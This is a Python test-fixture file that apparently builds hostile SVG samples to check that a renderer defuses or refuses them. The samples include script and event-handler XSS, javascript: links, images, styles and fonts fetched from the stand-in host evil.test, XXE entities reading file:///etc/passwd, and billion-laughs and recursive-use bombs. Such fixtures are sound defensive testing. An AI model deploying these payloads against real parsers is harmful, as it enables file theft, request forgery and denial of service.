"""SVG drawings that try to do more than draw; each also draws a green square."""

GREEN = '<rect x="0" y="0" width="40" height="40" fill="#00aa00"/>'


def drawing(inside: str = "", *, head: str = "", attributes: str = "") -> bytes:
    """A drawing of 200 by 100 with a green square, and with what is given inside it."""
    return (
        f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xi="http://www.w3.org/2001/XInclude" width="200" height="100" {attributes}>'
        f"{GREEN}{inside}</svg>"
    ).encode()


def bomb(levels: int = 12, wide: int = 10) -> bytes:
    """A drawing that refers to itself until `wide` to the power of `levels` squares are drawn."""
    groups = ['<g id="n0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = f'<use xlink:href="#n{level - 1}"/>' * wide
        groups.append(f'<g id="n{level}">{uses}</g>')
    return drawing(f'<defs>{"".join(groups)}</defs><use xlink:href="#n{levels}"/>')


def laughs(levels: int = 12) -> bytes:
    """A drawing whose entities would become 10 to the power of `levels` words."""
    entities = ['<!ENTITY n0 "ha">']
    for level in range(1, levels + 1):
        entities.append(f'<!ENTITY n{level} "{f"&n{level - 1};" * 10}">')
    head = f"<!DOCTYPE svg [{''.join(entities)}]>"
    return drawing(f"<text>&n{levels};</text>", head=head)


TAMED = {
    "script": "<script>alert(1)</script>",
    "handler": '<rect width="9" height="9" onload="alert(1)" onclick="alert(2)"/>',
    "foreign html": '<foreignObject width="9" height="9"><iframe src="http://evil.test/"/>'
    "</foreignObject>",
    "image from the net": '<image width="200" height="100" xlink:href="http://evil.test/p.png"/>',
    "image without a scheme": '<image width="200" height="100" href="//evil.test/p.png"/>',
    "image from the disk": '<image width="200" height="100" href="file:///etc/passwd"/>',
    "image from above": '<image width="200" height="100" xlink:href="../../secret.png"/>',
    "image that is a drawing": '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "use of another file": '<use xlink:href="http://evil.test/a.svg#x"/>'
    '<use href="file:///etc/passwd#x"/>',
    "style sheet": "<style>@import url(http://evil.test/a.css);</style>",
    "style attribute": '<rect width="9" height="9" style="fill:url(http://evil.test/a.svg#x)"/>',
    "escaped style": '<rect width="9" height="9" style="fill:u\\72l(http://evil.test/a.svg#x)"/>',
    "commented style": '<rect width="9" height="9" style="fill:ur/**/l(http://evil.test/a)"/>',
    "paint from elsewhere": '<rect width="9" height="9" fill="url(file:///etc/passwd#x)"/>',
    "link": '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "animation": '<set attributeName="href" to="http://evil.test/"/>'
    '<animate attributeName="href" values="http://evil.test/"/>',
    "inclusion": '<xi:include href="file:///etc/passwd" parse="text"/>',
    "feature image": '<filter id="f"><feImage href="http://evil.test/p.png"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/>',
    "font": '<font-face><font-face-src><font-face-uri xlink:href="http://evil.test/f.svg"/>'
    "</font-face-src></font-face>",
    "drawing that uses itself": '<g id="me"><use xlink:href="#me"/></g>',
    "pattern of itself": '<pattern id="p" width="9" height="9"><rect width="9" height="9" '
    'fill="url(#p)"/></pattern><rect width="9" height="9" fill="url(#p)"/>',
    "depth without end": "<g>" * 5000 + "<script/>" + "</g>" * 5000,
}
"""What is drawn without the hostile part."""

REFUSED = {
    "external entity": drawing(
        "<text>&x;</text>", head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "parameter entity": drawing(
        head='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.test/a.dtd"> %x;]>'
    ),
    "entity in another encoding": drawing(
        "<text>&x;</text>", head='<!DOCTYPE svg [<!ENTITY x "ha">]>'
    )
    .decode()
    .encode("utf-16"),
    "billion laughs": laughs(),
    "billion squares": bomb(),
    "no drawing": b"<html><body><svg/></body></html>",
    "no XML": b"drawing",
    "empty": b"",
    "a PDF": b"%PDF-1.7 broken",
}
"""What is not drawn at all."""
